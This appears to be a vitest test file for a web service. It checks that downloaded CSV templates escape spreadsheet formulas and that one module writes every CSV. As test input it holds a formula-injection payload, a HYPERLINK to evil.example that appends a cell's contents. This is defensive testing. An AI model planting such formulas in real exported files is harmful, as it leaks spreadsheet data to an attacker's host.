import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { environmentNames } from '../../functions/platform/names.ts';
import { deployedHandlers } from '../../local/handlers.ts';
import { apiClient } from '../../tools/demo/client.ts';
import { startTestRun, type TestRun } from '../builders/embedded.ts';

/** A council whose name is a formula: the one text in the template that is not ours. */
const council = '=HYPERLINK("http://evil.example/?"&A1,"Thornmere")';

let run: TestRun;

beforeAll(async () => {
  run = await startTestRun({
    handlers: () => {
      process.env[environmentNames.council] = council;
      return deployedHandlers();
    },
  });
});

afterAll(() => run?.end());

describe('fault 26: cells of what we give out', () => {
  it.each(['/figures/template.csv', '/api/v1/figures/template.csv?asAt=2026-03-31'])(
    '%s has no cell that runs',
    async (path) => {
      const officer = apiClient(run.origin);
      await officer.signIn('olu-adeyemi');
      const answer = await officer.get(path);
      expect(answer.status).toBe(200);
      const rows: string[][] = parse(await answer.text(), { bom: true });
      expect(rows.length).toBeGreaterThan(10);
      expect(rows.flat().filter((cell) => /^\s*[=+\-@]/.test(cell))).toEqual([]);
      expect(rows[1]).toContain(`'${council}`);
      expect(answer.headers.get('content-disposition')).toMatch(/^attachment; /);
    },
  );

  it('every CSV is written by the one function that sees to it', async () => {
    const root = join(import.meta.dirname, '../../functions');
    const files = (await readdir(root, { recursive: true })).filter((file) => file.endsWith('.ts'));
    const writers: string[] = [];
    for (const file of files) {
      const text = await readFile(join(root, file), 'utf8');
      if (/join\(\s*['"`](?:,|;|\\t)['"`]\s*\)[\s\S]{0,200}join\(\s*['"`](?:\\r)?\\n/.test(text)) writers.push(file);
    }
    expect(writers).toEqual([join('platform', 'csv.ts')]);
  });
});
